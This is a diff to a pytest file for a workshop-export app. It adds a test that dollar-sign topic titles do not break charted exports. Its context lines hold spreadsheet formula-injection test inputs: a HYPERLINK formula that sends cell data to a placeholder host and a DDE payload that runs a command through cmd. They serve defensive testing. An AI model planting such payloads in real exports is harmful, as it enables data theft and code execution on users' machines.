@@ -211,7 +211,22 @@ def test_export_of_an_empty_workshop(client, workshop, fac):
         assert download(client, workshop, fmt, headers=fac).status_code == 200
 
 
-# -- user text that spreadsheets would run as formulas ----------------------------------------
+# -- user text that spreadsheets or matplotlib would run -----------------------------------------
+# Two "$" make matplotlib read the text between as mathtext; these do not parse.
+MATHTEXT_TITLES = ["a ${ b $", "x^2 $^$"]
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "docx", "html", "md"])
+def test_dollar_signs_in_a_topic_title_keep_the_charted_exports_working(client, workshop, fac, api, fmt):
+    for title in MATHTEXT_TITLES:
+        api("POST", "/topics", {"title": title})  # any phone may propose one
+    r = download(client, workshop, fmt, headers=fac)
+    assert r.status_code == 200, r.get_data(as_text=True)[:300]
+    text = text_of(fmt, r.data)
+    for title in MATHTEXT_TITLES:
+        assert title in text
+
+
 FORMULAS = {"space": '=HYPERLINK("http://x"&A1,"klick")', "slot": "+cmd|' /C calc'!A0",
             "other_slot": "@SUM(1)"}
 
